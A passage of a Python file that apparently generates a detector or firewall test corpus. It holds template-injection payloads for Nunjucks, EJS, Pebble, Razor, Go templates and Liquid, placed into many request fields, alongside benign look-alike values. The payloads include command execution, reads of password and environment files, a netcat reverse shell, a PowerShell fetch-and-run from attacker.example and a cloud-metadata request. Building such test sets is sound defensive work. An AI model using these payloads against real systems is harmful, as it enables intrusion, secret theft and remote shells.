    ("currency", "{{joiner.constructor(\"return process.mainModule.require('fs').readFileSync('/etc/passwd',"
                 "'utf8')\")()}}"),
    ("lang", "{% set x = range.constructor(\"return process.mainModule.require('child_process')"
             ".execSync('uname -a')\")() %}{{x}}"),
    ("date", "2024-05-01{{''.constructor.constructor('return process.mainModule.require(\"child_process\")"
             ".execSync(\"id\")')()}}"),
    ("colour", "{{range.constructor(\"return this.process.mainModule.require('child_process')"
               ".exec('nc 203.0.113.7 4444 -e /bin/sh')\")()}}"),
    ("sort", "{{ dump(range.constructor('return process.versions')()) }}"),
    ("filename", "{% include '/etc/passwd' %}"),
    ("postcode", "{{ [].constructor.constructor('return process.env')() }}"),
    ("timezone", "{% raw %}{% endraw %}{{cycler.constructor(\"return global.process.mainModule.require("
                 "'child_process').execSync('cat /proc/self/environ')\")()}}"),
]
# EJS 3 (Node.js, Express: a template value, or the render options reached through a query object)
EJS: list[Entry] = [
    ("username", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("email", "\"<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>\"@example.com"),
    ("currency", "<% require('child_process').exec('nc -e /bin/sh 203.0.113.7 4444') %>"),
    ("lang", "<%- include('/etc/passwd') %>"),
    ("date", "2024-05-01<%= global.process.mainModule.require('fs').readdirSync('/') %>"),
    ("json-key", "settings[view options][outputFunctionName]=x;process.mainModule.require('child_process')"
                 ".execSync('id');s"),
    ("json-key", "settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process"
                 ".mainModule.constructor._load('child_process').execSync('id');"),
    ("colour", "<%= this.constructor.constructor('return process')().env %>"),
    ("filename", "<%- include('../../../../etc/shadow') %>"),
    ("timezone", "<%= global.process.mainModule.constructor._load('child_process').execSync('id') %>"),
]
# Pebble 3 (Java, Spring Boot)
PEBBLE: list[Entry] = [
    ("username", "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,"
                 "null).exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String')"
                 ".constructors[0].newInstance(([bytes]).toArray()) }}"),
    ("email", "\"{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}\"@example.com"),
    ("currency", "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('touch /tmp/p138') }}"),
    ("lang", "{% include '../../../../../../etc/passwd' %}"),
    ("date", "2024-05-01{{ beans.get('applicationContext').getEnvironment() }}"),
    ("colour", "{{ request.getClass().getClassLoader() }}"),
    ("sort", "{% set x = 'x'.getClass().forName('java.lang.System').getenv() %}{{ x }}"),
    ("filename", "{{ (1).TYPE.forName('java.nio.file.Files').readAllLines((1).TYPE.forName('java.nio.file.Paths')"
                 ".get('/etc/passwd')) }}"),
    ("postcode", "{% for i in range(1,999999999) %}{{ i }}{% endfor %}"),
    ("timezone", "{{ 'x'.class.forName('java.lang.Runtime').getRuntime().exec('id') }}"),
]
# Razor (RazorEngine / ASP.NET)
RAZOR: list[Entry] = [
    ("username", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("email", "\"@(System.Environment.GetEnvironmentVariables())\"@example.com"),
    ("currency", "@{ System.Diagnostics.Process.Start(\"powershell\",\"-c iwr http://attacker.example/r.ps1|iex\"); }"),
    ("lang", "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")"),
    ("date", "2024-05-01@(new System.Net.WebClient().DownloadString(\"http://attacker.example/x\"))"),
    ("colour", "@(System.IO.Directory.GetFiles(\"C:\\\\inetpub\\\\wwwroot\"))"),
    ("sort", "@{var p=new System.Diagnostics.ProcessStartInfo(\"cmd\",\"/c dir\");"
             "System.Diagnostics.Process.Start(p);}"),
    ("filename", "@System.IO.File.WriteAllText(\"C:\\\\inetpub\\\\wwwroot\\\\x.aspx\",\"<%Response.Write(1);%>\")"),
    ("postcode", "@(7*7)"),
    ("timezone", "@System.AppDomain.CurrentDomain.GetAssemblies()"),
]
# Go text/template and html/template with Sprig, Hugo, Helm and gomplate functions
GO_TEMPLATES: list[Entry] = [
    ("username", "{{printf \"%#v\" .}}"),
    ("email", "\"{{ env \\\"AWS_SECRET_ACCESS_KEY\\\" }}\"@example.com"),
    ("currency", "{{ readFile \"/etc/passwd\" }}"),
    ("lang", "{{ os.ReadFile \"../../../../etc/passwd\" }}"),
    ("date", "2024-05-01{{ expandenv \"$DATABASE_URL\" }}"),
    ("colour", "{{ getenv \"HUGO_PARAMS_SECRET\" }}"),
    ("sort", "{{ .Files.Get \"../../../etc/passwd\" }}"),
    ("filename", "{{ file.Read \"/etc/shadow\" }}"),
    ("postcode", "{{define \"T1\"}}<script>alert(document.domain)</script>{{end}}{{template \"T1\"}}"),
    ("timezone", "{{ (resources.GetRemote \"http://169.254.169.254/latest/meta-data/\").Content }}"),
]
# Liquid (Shopify, Jekyll, LiquidJS)
LIQUID: list[Entry] = [
    ("username", "{% include ../../../../etc/passwd %}"),
    ("email", "\"{{ site.data | jsonify }}\"@example.com"),
    ("currency", "{% render '/etc/passwd' %}"),
    ("lang", "{% include_relative ../../_config.yml %}"),
    ("date", "2024-05-01{% for i in (1..100000000) %}{{ i }}{% endfor %}"),
    ("colour", "{{ settings | json }}"),
    ("sort", "{% layout '../../../../etc/passwd' %}"),
    ("filename", "{% include '/proc/self/environ' %}"),
    ("postcode", "{% assign s = 'xxxxxxxxxx' %}{% for i in (1..1000000) %}{% assign s = s | append: s %}{% endfor %}"),
    ("timezone", "{{ customer.email }}{{ customer.addresses | json }}"),
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASS_NAMES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SERIALIZATION),
    ("java", "java-deserialization-gadgets", JAVA_GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EXPRESSION_LANGUAGE),
    ("java", "java-polymorphic-payloads", JAVA_POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]

# ----------------------------------------------------------------------------------------------------------------
# Field types: (names on our routes, places on our routes, names a regression suite uses, its places). A value
# goes to the first place of the cycle (from its position on) that can carry it.
Field = tuple[list[str], list[str], list[str], list[str]]
FIELDS: dict[str, Field] = {
    "email": (["email", "contact_email", "billing_email"],
              ["json", "form", "query", "header:From", "xml", "multipart-field"],
              ["email", "mail", "user_email"],
              ["rs-query", "rs-form", "rs-json", "rs-header:From", "rs-xml", "rs-cookie"]),
    "phone": (["phone", "mobile"], ["json", "form", "json-settings", "query"],
              ["phone", "tel", "mobile"], ["rs-form", "rs-json", "rs-query", "rs-xml"]),
    "date": (["since", "until", "birth_date", "due_date"],
             ["query", "json", "form", "header:If-Modified-Since", "xml"],
             ["date", "from", "to", "start_date"],
             ["rs-query", "rs-json", "rs-form", "rs-header:If-Modified-Since", "rs-xml", "rs-cookie"]),
    "price": (["price", "amount", "unit_price"], ["json", "form", "query", "xml"],
              ["price", "amount", "total"], ["rs-form", "rs-json", "rs-query", "rs-xml"]),
    "quantity": (["quantity", "qty"], ["json", "form", "query", "xml"],
                 ["qty", "quantity", "count"], ["rs-form", "rs-json", "rs-query", "rs-xml"]),
    "id": (["user_id", "id", "order_id"], ["path", "query", "json", "form"],
           ["id", "uid", "item_id"], ["rs-path", "rs-query", "rs-form", "rs-json"]),
    "uuid": (["request_id", "client_id", "uuid"], ["query", "header:X-Request-Id", "json", "form"],
             ["uuid", "guid", "ref"], ["rs-query", "rs-header:X-Correlation-Id", "rs-json", "rs-form"]),
    "sort": (["sort", "order_by", "sort_by"], ["query", "form", "json", "cookie"],
             ["sort", "order", "orderby"], ["rs-query", "rs-form", "rs-json", "rs-cookie"]),
    "page": (["page", "limit", "offset", "per_page"], ["query", "form", "json"],
             ["page", "limit", "size"], ["rs-query", "rs-form", "rs-json"]),
    "lang": (["lang", "locale"], ["query", "header:Accept-Language", "cookie", "json-settings", "form"],
             ["lang", "locale", "hl"], ["rs-query", "rs-header:Accept-Language", "rs-cookie", "rs-form", "rs-json"]),
    "currency": (["currency", "units"], ["json-settings", "form", "query", "cookie"],
                 ["currency", "cur", "ccy"], ["rs-query", "rs-form", "rs-json", "rs-cookie"]),
    "filename": (["filename", "attachment", "file"], ["multipart-filename", "json", "query", "form"],
                 ["file", "filename", "doc"], ["rs-multipart-filename", "rs-query", "rs-form", "rs-json"]),
    "upload": (["file"], ["multipart-filename"], ["file", "upload"], ["rs-multipart-filename"]),
    "postcode": (["postcode", "zip"], ["json", "form", "query", "xml"],
                 ["zip", "postal_code", "postcode"], ["rs-form", "rs-query", "rs-json", "rs-xml"]),
    "colour": (["theme_color", "color", "accent"], ["json-settings", "cookie", "form", "query"],
               ["color", "colour", "bg"], ["rs-query", "rs-cookie", "rs-form", "rs-json"]),
    "json-key": (["settings"], ["param-name", "form-raw"], ["data"], ["rs-param-name", "rs-form-raw"]),
    "json-doc": (["settings"], ["json-body"], ["data"], ["rs-json-body"]),
    "xml-doc": (["settings"], ["xml-body"], ["data"], ["rs-xml-body"]),
    "config": (["preferences", "config", "settings_yaml"], ["form", "multipart-field", "json"],
               ["config", "yaml", "data"], ["rs-form", "rs-json", "rs-xml"]),
    "version": (["version", "api_version", "app_version"], ["header:X-Api-Version", "query", "json", "form"],
                ["v", "version", "ver"], ["rs-header:X-Api-Version", "rs-query", "rs-json", "rs-form"]),
    "user-agent": (["user_agent"], ["header:User-Agent", "json"], ["ua", "user_agent"],
                   ["rs-header:User-Agent", "rs-json", "rs-form"]),
    "hostname": (["host", "hostname", "domain", "smtp_host"], ["json", "form", "query", "header:X-Forwarded-Host"],
                 ["host", "domain", "server"], ["rs-query", "rs-form", "rs-json", "rs-header:X-Forwarded-Host"]),
    "url": (["avatar_url", "website", "webhook_url", "callback_url"],
            ["json", "form", "query", "header:Referer", "xml"],
            ["url", "target", "image_url", "redirect"],
            ["rs-query", "rs-form", "rs-json", "rs-header:Referer", "rs-xml"]),
    "timezone": (["timezone", "tz"], ["form", "json-settings", "cookie", "query"],
                 ["tz", "timezone"], ["rs-form", "rs-query", "rs-json", "rs-cookie"]),
    "token": (["remember_me", "state", "token"], ["cookie", "form", "json"],
              ["token", "state", "rememberMe"], ["rs-cookie", "rs-form", "rs-json", "rs-query"]),
    "ser": (["remember_me", "state", "session_data"], ["cookie", "query", "form"],
            ["rememberMe", "viewstate", "data"], ["rs-cookie", "rs-query", "rs-form"]),
    "username": (["display_name", "name", "username"], ["json", "form", "xml", "multipart-field", "query"],
                 ["name", "username", "user"], ["rs-json", "rs-form", "rs-query", "rs-xml"]),
    "filter": (["q", "filter", "match"], ["query", "form", "json"], ["q", "search", "filter"],
               ["rs-query", "rs-form", "rs-json"]),
    "mime": (["content_type", "mime_type"], ["header:Content-Type", "json"], ["type", "mime"],
             ["rs-header:Content-Type", "rs-form"]),
}
LATIN_FIELDS = {"ser"}
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
KV_SAFE = "=&[]._-:/'*$!(),;{}~@"
CSRF = "Xq3v9LmT0a8WcP2s"
PDF_BODY = "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def _enc(value: str, latin: bool = False, safe: str = "") -> str:
    return urllib.parse.quote(value.encode("latin-1") if latin else value.encode(), safe=safe)


def _xml(root: str, name: str, value: str) -> str:
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<?xml version="1.0" encoding="UTF-8"?><{root}><{name}>{escaped}</{name}></{root}>'


class _Set(BlindSet):
    """Bodies and benign records; this set's placements are its own (_real, _rs)."""

    prefix = NAME
    boundary = "----WebKitFormBoundaryq7Zr2mXk9TgA1c38"
    page = ("limit", "50")


SET = _Set()
MULTIPART = SET.multipart_type


def _file_body(kind: str, filename: str) -> str:
    if kind != "upload":
        return PDF_BODY
    return JSPX_SHELL if "jspx" in filename.lower() else JSP_SHELL


def _real(place: str, kind: str, name: str, v: str) -> dict[str, Any]:
    """Our routes, the value in the parameter `name` of its field type."""
    latin = kind in LATIN_FIELDS
    if place == "query":
        return _get("/api/users?" + name + "=" + _enc(v, latin) + "&limit=50")
    if place == "form":
        return {**_form("/me/settings", []), "body": f"csrf_token={CSRF}&{name}={_enc(v, latin)}"}
    if place == "form-raw":
        return {**_form("/me/settings", []), "body": f"csrf_token={CSRF}&" + _enc(v, False, KV_SAFE)}
    if place == "json":
        return request("PATCH", "/api/users/42", json.dumps({"id": 42, name: v}, ensure_ascii=False),
                        "application/json")
    if place == "json-settings":
        return request("PATCH", "/api/users/42", json.dumps({"settings": {name: v}}, ensure_ascii=False),
                        "application/json")
    if place == "json-body":
        return request("PATCH", "/api/users/42", v, "application/json")
    if place == "xml":
        return request("POST", "/api/users", _xml("user", name, v), "application/xml")
    if place == "xml-body":
        return request("POST", "/api/users", v, "application/xml")
    if place == "multipart-field":
        return request("POST", "/admin/users/import", SET.multipart([("csrf_token", CSRF, None), (name, v, None)]),
                        MULTIPART)
    if place == "multipart-filename":
        return request("POST", "/admin/users/import",
                        SET.multipart([("csrf_token", CSRF, None), (name, _file_body(kind, v), v)]), MULTIPART)
    if place == "cookie":
        return request("GET", "/api/users?limit=50",
                        Cookie="session=8f3c2a9d1e; " + name + "=" + _enc(v, latin, COOKIE_SAFE))
    if place.startswith("header:"):
        return request("GET", "/api/users?limit=50", **{place.split(":", 1)[1]: v})
    if place == "path":
        return _get("/api/users/" + _enc(v))
    if place == "param-name":
        return _get("/api/users?" + _enc(v, False, KV_SAFE))
    raise ValueError(place)


def _rs(place: str, kind: str, path: str, name: str, v: str) -> dict[str, Any]:
    """A regression suite's request: not our routes, the field's usual parameter name."""
    latin = kind in LATIN_FIELDS
    form = "application/x-www-form-urlencoded"
    if place == "rs-query":
        return request("GET", path + "?" + name + "=" + _enc(v, latin))
    if place == "rs-form":
        return request("POST", path, name + "=" + _enc(v, latin), form)
    if place == "rs-form-raw":
        return request("POST", path, _enc(v, False, KV_SAFE), form)
    if place == "rs-json":
        return request("POST", path, json.dumps({name: v}, ensure_ascii=False), "application/json")
    if place == "rs-json-body":
        return request("POST", path, v, "application/json")
    if place == "rs-xml":
        return request("POST", path, _xml("request", name, v), "text/xml")
    if place == "rs-xml-body":
        return request("POST", path, v, "text/xml")
    if place == "rs-cookie":
        return request("GET", path, Cookie=name + "=" + _enc(v, latin, COOKIE_SAFE))
    if place.startswith("rs-header:"):
        return request("GET", path, **{place.split(":", 1)[1]: v})
    if place == "rs-path":
        return request("GET", path.rstrip("/") + "/" + _enc(v))
    if place == "rs-param-name":
        return request("GET", path + "?" + _enc(v, False, KV_SAFE))
    if place == "rs-multipart-filename":
        target = "/post" if path in ("/", "/get", "/search") else path
        return request("POST", target, SET.multipart([(name, _file_body(kind, v), v)]), MULTIPART)
    raise ValueError(place)


def _fits(place: str, kind: str, v: str) -> bool:
    """Headers and cookies need a printable single-line ASCII value; a path segment a short one."""
    if kind in LATIN_FIELDS:
        return True   # percent-encoded wherever it goes
    if place.startswith(("header:", "rs-header:")) or place in ("cookie", "rs-cookie"):
        return header_safe(v)
    if place in ("path", "rs-path"):
        return header_safe(v) and len(v) < 400
    return True


def _place(cycle: list[str], start: int, kind: str, v: str) -> str:
    for k in range(len(cycle)):
        place = cycle[(start + k) % len(cycle)]
        if _fits(place, kind, v):
            return place
    raise ValueError((kind, v))


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for s, (category, sub, entries) in enumerate(FAMILIES):
        for i, (kind, payload) in enumerate(entries):
            names, places, rs_names, rs_places = FIELDS[kind]
            real_place = _place(places, i + s, kind, payload)
            rs_place = _place(rs_places, i + 2 * s, kind, payload)
            name = names[(i + s) % len(names)]
            rs_name = rs_names[(i + 3 * s) % len(rs_names)]
            rs_path = RS_PATHS[(i + s) % len(RS_PATHS)]
            for place, rec in ((real_place, _real(real_place, kind, name, payload)),
                               (rs_place, _rs(rs_place, kind, rs_path, rs_name, payload))):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": payload}


# ----------------------------------------------------------------------------------------------------------------
# Benign: realistic values of the same typed fields sent to the same places, and the same words typed innocently
TYPED_BENIGN: list[Entry] = [
    # e-mail addresses: plus tags, dots, apostrophes, sub-domains, internationalised
    ("email", "ann.lee+billing@example.com"), ("email", "o'brien.siobhan@example.ie"),
    ("email", "d'angelo.maria@example.it"), ("email", "first.last@mail.example.co.uk"),
    ("email", "user_42@example.org"), ("email", "jean-luc.picard@example.fr"), ("email", "zoë.müller@example.de"),
    ("email", "ops-alerts+pagerduty@example.com"), ("email", "j.o'neil@example.com"),
    # phone numbers
    ("phone", "+44 20 7946 0958"), ("phone", "(555) 123-4567"), ("phone", "+1-555-0100 ext. 12"),
    ("phone", "+49 (0)30 123456"), ("phone", "+33 6 12 34 56 78"), ("phone", "+55 11 91234-5678"),
    # dates and times in many formats
    ("date", "2024-05-01"), ("date", "2024-05-01T09:30:00Z"), ("date", "2024-05-01T09:30:00+02:00"),
    ("date", "01/05/2024"), ("date", "May 1, 2024"), ("date", "1 mai 2024"), ("date", "2024-W18"),
    ("date", "20240501"), ("date", "Tue, 07 May 2024 10:00:00 GMT"), ("date", "2024-05-01 09:30:00.123456"),
    ("date", "2024-12-31T23:59:59.999Z"), ("date", "31.12.2024"),
    # prices and quantities
    ("price", "19.99"), ("price", "€19,99"), ("price", "$1,299.00"), ("price", "£5"), ("price", "19.99 USD"),
    ("price", "-5.00"), ("price", "1.234,56 €"), ("price", "¥1500"), ("price", "CHF 12.50"),
    ("quantity", "3"), ("quantity", "1.5 kg"), ("quantity", "2 x 500ml"), ("quantity", "12 (dozen)"),
    ("quantity", "0"),
    # ids and UUIDs
    ("id", "42"), ("id", "000123"), ("id", "ORD-2024-000187"), ("id", "U024BE7LH"), ("id", "9007199254740993"),
    ("uuid", "8f14e45f-ceea-467a-9575-6c5a4d2b9f4e"), ("uuid", "3F2504E0-4F89-11D3-9A0C-0305E82C3301"),
    ("uuid", "01890a5d-ac96-774b-bcce-b302099a8057"), ("uuid", "req_2b7f9c1e84d6"),
    # sort keys and columns, pages and limits
    ("sort", "-created_at"), ("sort", "name,-updated_at"), ("sort", "price desc"), ("sort", "created_at:asc"),
    ("sort", "last_name"), ("sort", "address.city"), ("sort", "+email"),
    ("page", "1"), ("page", "25"), ("page", "100"), ("page", "2"), ("page", "0"),
    # language, currency and time zone codes
    ("lang", "en-GB"), ("lang", "pt-BR"), ("lang", "zh-Hant-TW"), ("lang", "fr-CA,fr;q=0.9,en;q=0.8"),
    ("lang", "de"), ("lang", "sr-Latn-RS"),
    ("currency", "EUR"), ("currency", "usd"), ("currency", "CHF"), ("currency", "GBP (£)"), ("currency", "metric"),
    ("timezone", "Europe/London"), ("timezone", "America/Sao_Paulo"), ("timezone", "UTC+05:30"),
    ("timezone", "Asia/Kolkata"), ("timezone", "America/Argentina/Buenos_Aires"), ("timezone", "Etc/GMT-2"),
    # file names: spaces, brackets, accents, apostrophes
    ("filename", "Q1 report (final).pdf"), ("filename", "café menu – été 2024.docx"), ("filename", "photo [1].jpg"),
    ("filename", "O'Brien CV.pdf"), ("filename", "résumé.pdf"), ("filename", "data_2024-05-01.csv"),
    ("filename", "scan 001 #2.png"), ("filename", "invoice #42 (copy).pdf"), ("filename", "notes & todo.txt"),
    ("filename", "Präsentation_v2.pptx"), ("filename", "backup.tar.gz"), ("filename", "IMG_2024-05-01 10.22.31.HEIC"),
    # postcodes
    ("postcode", "SW1A 1AA"), ("postcode", "10115"), ("postcode", "75008"), ("postcode", "H3Z 2Y7"),
    ("postcode", "2000"), ("postcode", "01310-100"), ("postcode", "100-0001"), ("postcode", "D02 X285"),
    ("postcode", "90210-1234"),
    # colours
    ("colour", "#ff6600"), ("colour", "rgb(255, 102, 0)"), ("colour", "hsl(24 100% 50%)"),
    ("colour", "rebeccapurple"), ("colour", "#FFF"), ("colour", "rgba(0,0,0,0.5)"),
    # JSON keys and bracketed parameter names
    ("json-key", "filter[status]=active"), ("json-key", "fields[users]=name,email"),
    ("json-key", "page[size]=25&page[number]=2"), ("json-key", "settings[units]=metric&settings[alert_time]=07:30"),
    ("json-doc", '{"settings":{"units":"metric","alert_time":"07:30","timezone":"Europe/Paris"}}'),
    ("json-doc", '{"name":"Siobhán O\'Brien","email":"siobhan.obrien@example.ie","is_active":true}'),
    ("json-doc", '{"settings":{"location":"São Paulo","units":"imperial"}}'),
    # versions, user agents, hosts and URLs
    ("version", "1.2.3"), ("version", "v2"), ("version", "2024-05-01"), ("version", "1.0.0-beta.2+build.7"),
    ("version", ">=3.9,<4"), ("version", "~1.4"),
    ("user-agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Mobile/15E148 Safari/604.1"),
    ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0"),
    ("user-agent", "okhttp/4.12.0"), ("user-agent", "Java/17.0.10"),
    ("hostname", "api.example.com"), ("hostname", "mail.example.co.uk"), ("hostname", "xn--caf-dma.example"),
    ("hostname", "smtp.office365.com:587"),
    ("url", "https://example.com/profile?id=42&tab=photos"), ("url", "https://calendly.com/ann-lee/30min"),
    ("url", "https://cdn.example.com/avatars/ann%20lee.png"), ("url", "https://hooks.example.org/webhook/7f3a"),
    ("url", "https://www.linkedin.com/in/maria-d-angelo/"),
    # display names, searches, config
    ("username", "O'Brien"), ("username", "D'Angelo, Maria"), ("username", "José Ñúñez"), ("username", "Zoë"),
    ("username", "Anne-Marie de la Cruz"), ("username", "李小龙"),
    ("filter", "o'brien"), ("filter", "invoice 2024"), ("filter", "+1 555"), ("filter", "@example.com"),
    ("config", "units: metric\nalert_time: \"07:30\"\ntimezone: Europe/Paris\n"),
    ("token", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI0MiIsImV4cCI6MTcxNDUyMTYwMH0."
              "Q0ZmYzQ3NmQ1ZGE0YzE4ZjRlZGYxYjVhMmI3YzA"),
    ("mime", "application/json; charset=utf-8"),
]
CHAT = [
    "can we switch the avatar upload to fetch from a URL? people keep asking to paste their gravatar link",
    "the sort param takes -created_at for newest first, it's in the API docs",
    "Siobhán's email has an accent and an apostrophe in the display name, the import choked on it last time",
    "reminder: dates in the export are ISO 8601 with the offset, e.g. 2024-05-01T09:30:00+02:00",
    "the currency dropdown now lists CHF and SEK too",
    "prices come back as strings like \"19.99\" so the JS side can format them per locale",
    "we moved the Jinja templates for the weekly email into templates/mail/, {{ user.name }} still works",
    "log4j 2.17.1 on the Java reporting box, the ${jndi:...} stuff is off",
    "the Spring Boot service reads app.version from the pom, X-Api-Version header is informational",
    "anyone know why the Thymeleaf fragment for the footer renders twice?",
    "the node service uses child_process.execFile for the PDF conversion, no shell involved",
    "our ruby importer uses YAML.safe_load, rubocop flags plain YAML.load",
    "the perl report script finally got replaced with a python one",
    "169.254.169.254 is blocked from the webhook fetcher, there's a unit test for it",
    "IMDSv2 is required on all instances now, hop limit 1",
    "the prototype for the new settings page is in Figma",
    "Freemarker templates in the legacy billing app use ${amount?string.currency}",
    "Velocity is still in the old CMS, $customer.name in the footer",
    "Handlebars partials for the emails: {{> header}} and {{> footer}}",
    "the Go service renders the status page with html/template, {{.Title}} in the head",
    "Shopify theme uses {{ product.price | money }} so the currency follows the store",
    "the EJS view for the receipt prints <%= order.total %>",
    "Razor page for the invoice uses @Model.Total.ToString(\"C\")",
    "Smarty is only in the shop we inherited, {$smarty.now|date_format} in the footer",
    "Twig date filter: {{ post.published_at|date('d/m/Y') }}",
    "Pug layout extends layout.pug and the blocks are content and scripts",
    "Mako templates in the Pyramid admin, ${request.route_url('home')}",
    "Tornado handles the websocket, its templates aren't used",
    "Nunjucks builds the docs site, {% include 'nav.njk' %} in every page",
    "Pebble in the Java mailer: {{ user.firstName | capitalize }}",
    "Liquid for the Jekyll blog, {% for post in site.posts %} on the index",
    "the ProcessBuilder call in the Java CLI now passes args as a list",
    "Runtime.getRuntime().availableProcessors() gives the container limit on 17+",
    "the remember-me cookie is a signed random token now, not a serialized object",
    "ObjectInputStream only in the old cache, with a filter allowing our own classes",
    "fastjson got removed, Jackson with default typing off",
    "XStream allowlist is set up in the importer config",
    "the JSP admin screens will go away with the next release",
    "a postcode like SW1A 1AA has a space, don't strip it",
    "phone numbers are stored in E.164, +442079460958",
    "uploading 'résumé.pdf' works now, the accent bug is fixed",
    "the time zone list comes from the tz database, America/Argentina/Buenos_Aires is the longest one",
    "for the colour picker we accept #RGB, #RRGGBB and rgb() values",
    "the version string follows semver, 1.0.0-beta.2+build.7 is valid",
    "the ReDoS checker in CI flagged a nested quantifier in the email regex, fixed",
    "while(true) in the poller had no sleep, CPU at 100%, fixed now",
    "data: URLs for the tiny icons are inlined by the bundler",
    "Kubernetes secrets are mounted as files, not env vars",
    "the metrics endpoint is only on loopback, port 9145",
    "Gopher was a thing before the web took over, fun talk at the meetup",
]
SEARCHES = [
    "o'brien", "d'angelo", "siobhán", "josé", "zoë", "ann.lee+billing@example.com", "@example.co.uk", "+44 20",
    "2024-05-01", "may 2024", "€19,99", "$1,299", "SW1A 1AA", "10115", "ORD-2024-000187", "U024BE7LH",
    "8f14e45f", "-created_at", "price desc", "pt-BR", "EUR", "Europe/London", "résumé.pdf", "photo [1].jpg",
    "#ff6600", "v2", "1.2.3", "okhttp", "api.example.com", "calendly", "runtime", "process", "template",
    "jinja", "freemarker", "velocity", "thymeleaf", "handlebars", "spring", "log4j", "java", "ruby", "perl",
    "node", "metadata", "localhost", "prototype", "constructor", "serialization", "class loader",
]
URLS = [
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/querying-metadata",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://nodejs.org/api/child_process.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://ruby-doc.org/3.3.0/stdlibs/yaml/YAML.html",
    "https://perldoc.perl.org/functions/open",
    "https://www.php.net/manual/en/wrappers.data.php",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://freemarker.apache.org/docs/dgui_template_exp.html",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://handlebarsjs.com/guide/",
    "https://pkg.go.dev/text/template",
    "https://shopify.dev/docs/api/liquid",
    "https://en.wikipedia.org/wiki/ISO_8601",
    "https://en.wikipedia.org/wiki/ISO_4217",
    "https://en.wikipedia.org/wiki/E.164",
    "https://semver.org/#spec-item-10",
    "https://www.iana.org/time-zones",
    "https://example.com/shop/checkout?currency=EUR&qty=2&sort=-price",
]
PROSE = [
    "Customer O'Brien asked to change the billing e-mail to siobhan.obrien+invoices@example.ie.",
    "Refund of €19,99 for order ORD-2024-000187 approved; the customer keeps the item.",
    "Please set the alert time to 07:30 and the time zone to Europe/Lisbon for this user.",
    "D'Angelo's phone number is +39 06 1234 5678; the old one is disconnected.",
    "The invoice template prints ${amount} in the customer's currency (CHF for Swiss accounts).",
    "Postcode D02 X285 failed validation; Irish Eircodes are now accepted.",
    "User uploaded 'Q1 report (final).pdf' twice; the duplicate was removed.",
    "Sort the export by -created_at and limit it to 500 rows per page.",
    "The webhook URL must be https and publicly reachable; internal IPs are refused.",
    "The Java service was upgraded to Spring Boot 3.2 and Log4j 2.23.",
    "Theme colour #ff6600 clashes with the logo; the designer suggests #e85d04.",
    "Version 1.0.0-beta.2 of the mobile app sends the new X-Api-Version header.",
    "The Node.js worker restarts if the process runs out of memory.",
    "The Ruby import job reads the YAML settings with safe_load only.",
    "Jinja2, Twig and Liquid templates all use double curly braces; that confused the new hire.",
    "Server-side template injection was covered in the security training on Tuesday.",
    "Prototype pollution and SSRF were the other two topics of the training.",
    "Date format on the German site is 31.12.2024; the API still returns ISO 8601.",
    "Quantity 1.5 kg is entered as weight, not as a count of items.",
    "The currency code for the Japanese shop is JPY, prices have no decimals.",
]
UPLOAD_NAMES = [
    "Q1 report (final).pdf", "café menu – été 2024.docx", "photo [1].jpg", "O'Brien CV.pdf", "résumé.pdf",
